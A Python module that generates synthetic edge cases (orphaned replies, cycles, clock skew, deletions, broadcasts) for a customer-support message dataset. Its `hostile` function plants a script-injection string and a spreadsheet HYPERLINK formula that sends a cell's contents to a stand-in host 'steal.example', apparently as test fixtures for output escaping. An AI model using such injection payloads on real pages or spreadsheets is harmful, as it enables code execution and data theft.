"""The awkward cases of the sample data: what real exports contain and simple counting gets wrong."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta

from sample_log import ENDS_AT, HANDLES, STARTS_AT, Message, SampleLog, after
from sample_story import reply_at, wording
from sample_texts import Person, phrases

People = dict[str, list[Person]]

CASES = {
    "missing parents": "the message replied to is not in the export",
    "rings of parents": "messages that reply to each other in a circle, and one that hangs from it",
    "several customers in a thread": "comments of many people under one post of the brand",
    "same-second replies": "question and human answer carry one and the same second",
    "clock skew": "the reply is stamped before the message that it answers",
    "automated acknowledgements": "sent by a rule; never an answer",
    "broadcasts": "the brand writes to everybody; no customer before it",
    "internal notes": "written by agents for agents; no customer sees them",
    "removals by the brand": "hidden by the brand; an answer is still owed",
    "removals by the author": "deleted by the customer, before or after the answer",
    "undirected mentions": "about the brand, not to it; nothing is owed",
    "duplicates": "one message more than once in one file, with equal or newer counts",
    "updated rows": "in twitter.csv, and again in twitter_2.csv with newer likes or a removal",
    "lost conversation ids": "the first message has none; its direct replies carry it",
    "a week's silence": "a chat goes on after more than seven days: a new thread",
    "authorless messages": "the author is hidden; each message is its own customer",
    "answered elsewhere": "asked twice in public, answered under the other one only",
    "interim answers": "a first word, the solution later",
    "follow-up turns": "the customer asks again after an answer",
    "two brands in a thread": "one customer writes to both; either may answer",
    "a script in the text": "what a customer wrote must not run in a page; once",
    "a formula in the text": "nor in a spreadsheet; once",
}


def pick(log: SampleLog, people: People, channel: str, language: str = "") -> Person:
    """Return one customer of `channel`, of `language` where given."""
    return log.draw.one([person for person in people[channel] if person.language.startswith(language)])


def some_instants(log: SampleLog, count: int, first_at: datetime = STARTS_AT) -> list[datetime]:
    """Return `count` instants by day, spread over the weeks that follow `first_at`."""
    step = (ENDS_AT - timedelta(days=4) - first_at) / count
    found = []
    for number in range(count):
        day = (first_at + step * number).replace(hour=0, minute=0, second=0, microsecond=0)
        found.append(day + timedelta(seconds=log.draw.between(8 * 3600, 16 * 3600)))
    return found


def exchange(
    log: SampleLog, people: People, channel: str, brand: str, asked_at: datetime, waits: int, **values: str
) -> tuple[Message, Message, Person]:
    """Add a complaint and its answer `waits` seconds later; `values` are of the complaint."""
    person = pick(log, people, channel)
    said, answered, _ = wording(log.draw, person, channel, brand, "complaint")
    place = {"conversation_id": log.conversation(channel, brand, person)}
    asked = log.ask(channel, brand, asked_at, person, said, "complaint", **place | values)
    if channel != "whatsapp":
        place["parent_id"] = asked.message_id
    replied_at = asked_at + timedelta(seconds=waits)
    return asked, log.answer(channel, brand, replied_at, person.language, answered, person, **place), person


def missing_parents(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a customer's reply, or a brand's, to a message that the export lacks."""
    draw = log.draw
    if draw.chance(0.6):
        lost_id = f"19{draw.between(10**16, 10**17)}"
        log.note("missing parents", exchange(log, people, "twitter", brand, at, 900, parent_id=lost_id)[0])
        return
    channel = draw.one(("twitter", "google_play"))
    person = pick(log, people, channel)
    gone = {
        "twitter": f"19{draw.between(10**16, 10**17)}",
        "google_play": f"gp-m-{draw.between(10000, 60000)}",
    }
    _, said, _ = wording(draw, person, channel, brand, "complaint")
    log.note(
        "missing parents",
        log.answer(channel, brand, at, person.language, said, person, parent_id=gone[channel]),
    )


def ring(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add messages whose parents run in a circle, and a thanks that hangs from it."""
    channel = log.draw.one(("email", "facebook", "twitter"))
    asked, reply, person = exchange(log, people, channel, brand, at, 2700)
    log.messages[log.messages.index(asked)] = replace(asked, parent_id=reply.message_id)
    thanks = log.draw.one(phrases(person.language)["customer"]["thanks"])
    place = {"conversation_id": asked.conversation_id, "parent_id": reply.message_id}
    log.ask(channel, brand, after(log.draw, reply.posted_at, 300, 3000), person, thanks, "thanks", **place)
    log.note("rings of parents", asked)


def crowd(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a post of the brand to everybody, and comments of several people under it."""
    draw, channel = log.draw, log.draw.one(("facebook", "facebook", "twitter"))
    language = draw.one(people[channel]).language
    conversation_id = log.conversation(channel, brand, people[channel][0])
    said = draw.one(phrases(language)["broadcast"][brand])
    post = log.answer(channel, brand, at, language, said, None, conversation_id=conversation_id)
    log.note("broadcasts", post)
    log.note("several customers in a thread", post)
    asked_at = at
    place = {"conversation_id": conversation_id}
    for _ in range(draw.between(3, 6)):
        person = pick(log, people, channel, language)
        asked_at = after(draw, asked_at, 120, 5400)
        category = draw.weighted({"complaint": 5, "question": 3, "praise": 1})
        asked, answered, _ = wording(draw, person, channel, brand, category)
        place["parent_id"] = post.message_id
        comment = log.ask(channel, brand, asked_at, person, asked, category, **place)
        replied_at = reply_at(draw, brand, channel, asked_at)
        if replied_at is not None:
            place["parent_id"] = comment.message_id
            log.answer(channel, brand, replied_at, language, answered, person, **place)


def broadcast(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a post of the brand that nobody comments."""
    channel = log.draw.one(("twitter", "facebook"))
    person = log.draw.one(people[channel])
    said = log.draw.one(phrases(person.language)["broadcast"][brand])
    log.note("broadcasts", log.answer(channel, brand, at, person.language, said, None))


def same_second(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a question that is answered in its own second."""
    channel = log.draw.one(("whatsapp", "twitter", "facebook"))
    log.note("same-second replies", exchange(log, people, channel, brand, at, 0)[1])


def skew(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add an answer from a clock that runs behind."""
    channel = log.draw.one(("facebook", "twitter", "email"))
    log.note("clock skew", exchange(log, people, channel, brand, at, -log.draw.between(5, 170))[1])


def removed_by_brand(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a complaint that the brand hides and does not answer."""
    channel = log.draw.one(("facebook", "facebook", "twitter"))
    person = pick(log, people, channel)
    said, _, _ = wording(log.draw, person, channel, brand, "complaint")
    hidden: dict[str, object] = {"removed_at": after(log.draw, at, 1800, 90000), "removed_by": "brand"}
    hidden["conversation_id"] = log.conversation(channel, brand, person)
    log.note("removals by the brand", log.ask(channel, brand, at, person, said, "complaint", **hidden))


def removed_by_author(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a message that its author deletes: mostly unanswered, sometimes after the answer."""
    channel = log.draw.one(("twitter", "facebook"))
    person = pick(log, people, channel)
    said, answered, _ = wording(log.draw, person, channel, brand, "complaint")
    gone: dict[str, object] = {"removed_at": after(log.draw, at, 3600, 50000), "removed_by": "author"}
    place = {"conversation_id": log.conversation(channel, brand, person)}
    asked = log.ask(channel, brand, at, person, said, "complaint", **gone | place)
    if log.draw.chance(0.3):
        replied_at = after(log.draw, at, 300, 3000)
        log.answer(
            channel, brand, replied_at, person.language, answered, person, parent_id=asked.message_id, **place
        )
    log.note("removals by the author", asked)


def silence(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a chat that goes on eight to twelve days later."""
    draw = log.draw
    asked, _, person = exchange(log, people, "whatsapp", brand, at, draw.between(120, 2400))
    again_at = after(draw, at, 8 * 86400, 12 * 86400)
    said, answered, _ = wording(draw, person, "whatsapp", brand, "complaint")
    place = {"conversation_id": asked.conversation_id}
    again = log.ask("whatsapp", brand, again_at, person, said, "complaint", **place)
    replied_at = reply_at(draw, brand, "whatsapp", again_at)
    if replied_at is not None:
        log.answer("whatsapp", brand, replied_at, person.language, answered, person, **place)
    log.note("a week's silence", again)


def elsewhere(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a tweet that stays open, and a second one of the same person that is answered."""
    person = pick(log, people, "twitter")
    said, _, _ = wording(log.draw, person, "twitter", brand, "complaint")
    log.note("answered elsewhere", log.ask("twitter", brand, at, person, said, "complaint"))
    again_at = after(log.draw, at, 1800, 20000)
    said, answered, _ = wording(log.draw, person, "twitter", brand, "complaint")
    again = log.ask("twitter", brand, again_at, person, said, "complaint")
    replied_at = after(log.draw, again_at, 300, 5000)
    log.answer("twitter", brand, replied_at, person.language, answered, person, parent_id=again.message_id)


def two_brands(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a tweet to both brands, which the other one answers first."""
    person = pick(log, people, "twitter")
    said, agent = phrases(person.language)["customer"]["both"], phrases(person.language)["agent"]
    asked = log.ask("twitter", brand, at, person, said, "complaint")
    replied_at = at
    for other in sorted(HANDLES, key=lambda name: name == brand):
        replied_at = after(log.draw, replied_at, 600, 9000)
        text = log.draw.one(agent["interim"])
        log.answer("twitter", other, replied_at, person.language, text, person, parent_id=asked.message_id)
    log.note("two brands in a thread", asked)


def lost_conversation(log: SampleLog, people: People, at: datetime, brand: str) -> None:
    """Add a comment without the conversation id that its reply carries."""
    asked, _, _ = exchange(log, people, "facebook", brand, at, 5400, conversation_id="")
    log.note("lost conversation ids", asked)


def hostile(log: SampleLog, people: People) -> None:
    """Add, in the last week, the two texts that try to be more than text."""
    at = ENDS_AT - timedelta(days=5, hours=3)
    person = replace(pick(log, people, "facebook", "en"), followers=18400)
    script = "<script>alert('where is my parcel?')</script> & \"nobody\" answers <b>me</b>"
    place = {"conversation_id": log.conversation("facebook", "Snurfpost", person)}
    log.note(
        "a script in the text", log.ask("facebook", "Snurfpost", at, person, script, "complaint", **place)
    )
    person = pick(log, people, "google_play", "en")
    formula = '=HYPERLINK("https://steal.example/?x="&A1,"Tap here for a refund")'
    at += timedelta(minutes=50)
    log.note(
        "a formula in the text",
        log.ask("google_play", "Plinkotel", at, person, formula, "complaint", rating=1),
    )


MAKERS: dict[Callable[[SampleLog, People, datetime, str], None], int] = {
    missing_parents: 15,
    ring: 6,
    crowd: 9,
    broadcast: 9,
    same_second: 8,
    skew: 10,
    removed_by_brand: 12,
    removed_by_author: 14,
    silence: 7,
    elsewhere: 9,
    two_brands: 6,
    lost_conversation: 5,
}


def add_cases(log: SampleLog, people: People) -> None:
    """Add every awkward case to `log`, several times, spread over the weeks and the brands."""
    for make, count in MAKERS.items():
        for number, instant in enumerate(some_instants(log, count)):
            make(log, people, instant, list(HANDLES)[number % 2])
    hostile(log, people)
